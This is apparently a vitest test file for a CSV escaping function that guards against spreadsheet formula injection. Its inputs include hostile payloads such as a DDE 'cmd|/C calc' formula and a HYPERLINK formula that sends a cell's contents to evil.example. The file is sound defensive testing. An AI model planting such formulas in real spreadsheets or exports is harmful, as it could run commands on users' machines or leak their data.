import { expect, test } from 'vitest';
import { csvCell, csvLine } from './csv-cell.ts';

test.each([
  '=1+1',
  '+420',
  '-2+3',
  '@SUM(A1)',
  '\tx',
  '\rx',
  '=HYPERLINK("http://x","y")',
  '-',
  '+',
  '=cmd|/C calc!A0',
])('escapes %j', (text) => {
  const cell = csvCell(text);
  expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
});

test('also escapes formulas after characters that a spreadsheet strips or reads as a sign', () => {
  const before = [
    '',
    ' ',
    '  ',
    '\t',
    '\r',
    '\n',
    '\r\n',
    '\u00a0',
    '\u3000',
    '\ufeff',
    '\u200b',
    '\u200e',
    '\u2060',
    '\u0000',
    '\u001b',
  ];
  const signs = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
  const formulas = ['1+1', "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"Refund")', 'SUM(A1)*1'];
  const texts = before.flatMap((blank) =>
    signs.flatMap((sign) => formulas.map((rest) => blank + sign + rest)),
  );
  expect(texts.length).toBeGreaterThan(200);
  expect(texts.filter((text) => !/^"?'/.test(csvCell(text)))).toEqual([]);
});

test.each(['1+1', 'a=b', '50 %', 'Jan Novák', 'jan@example.cz', 'BTC-CZK', '', ' '])(
  'keeps the text %j',
  (text) => {
    expect(csvCell(text)).toBe(text);
  },
);

test.each(['-2.5', '0', '12.000000000000000001', '-1'])('keeps the number %s', (text) => {
  expect(csvCell(text)).toBe(text);
});

test('commas, quotes, semicolons and line breaks stay within their cell', () => {
  expect(csvLine(['a,b', 'say "x"', 'c;d', 'e\r\nf', 'plain'])).toBe(
    '"a,b","say ""x""","c;d","e\r\nf",plain\r\n',
  );
});
